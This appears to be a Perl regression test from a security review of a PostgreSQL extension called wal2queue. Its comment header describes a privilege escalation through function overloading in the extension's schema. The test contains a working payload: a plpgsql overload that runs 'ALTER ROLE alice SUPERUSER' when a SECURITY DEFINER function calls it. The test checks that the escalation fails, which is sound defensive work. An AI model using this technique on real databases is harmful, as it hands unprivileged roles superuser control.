# Attack review 11: a role allowed to create objects in schema wal2queue
# (for instance to keep its job tables there: docs/extension.md says DROP
# EXTENSION "leaves the schema (and any job tables you created in it)")
# becomes a superuser.  The install script refuses such a schema only at
# install time (sql/src/00_install.sql); afterwards the SECURITY DEFINER
# functions call the extension's helpers by name with arguments that need an
# implicit cast, resolved at run time: record_guard(job_table regclass, ...)
# (sql/src/25_append_only.sql) calls wal2queue.guarded_tables(job_table),
# whose parameter is oid.  The role creates wal2queue.guarded_tables(regclass)
# -- an exact match, chosen over the extension's -- and calls
# wal2queue.append_only() on its own table: record_guard() runs the role's
# function as the extension's owner (a superuser), which here runs
# ALTER ROLE ... SUPERUSER.  (Any call with an implicit cast in the
# SECURITY DEFINER functions is exposed the same way, and so are the
# SECURITY INVOKER ones -- prune(), maintain_partitions() -- when a
# privileged role, a superuser's cron job say, runs them.)  plpgsql caches
# the resolved call per session: the role's function is picked up by the
# next session.
# Expected: the role stays unprivileged (the calls in SECURITY DEFINER
# functions bound at creation -- BEGIN ATOMIC bodies, or arguments cast to
# the exact parameter types -- or a refusal to run while another role may
# create objects in the schema).
# Severity: high (privilege escalation to superuser), needs CREATE on the
# extension's schema granted after the install.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use W2QTest;

my $node = new_node('schema_overload');
$node->safe_psql('postgres', q{
	CREATE EXTENSION wal2queue;
	CREATE ROLE alice LOGIN;
	GRANT USAGE, CREATE ON SCHEMA wal2queue TO alice;
});
my $evil = $ENV{W2Q_ATTACK_CONTROL} ? '' : q{
	CREATE FUNCTION wal2queue.guarded_tables(relid regclass) RETURNS SETOF oid
	LANGUAGE plpgsql AS $$
	BEGIN
	    EXECUTE 'ALTER ROLE alice SUPERUSER';
	    RETURN QUERY SELECT relid::oid;
	END $$;
};
$node->safe_psql('postgres', qq{
	SELECT wal2queue.create_job_table('wal2queue.alice_jobs');
	$evil
}, extra_params => [ '-U', 'alice' ]);
# a new session of alice (plpgsql caches the resolved call per session)
$node->safe_psql('postgres', q{SELECT wal2queue.append_only('wal2queue.alice_jobs')},
	extra_params => [ '-U', 'alice' ]);
is($node->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'alice'"), 'f',
	'alice is still not a superuser');
$node->stop;
done_testing();
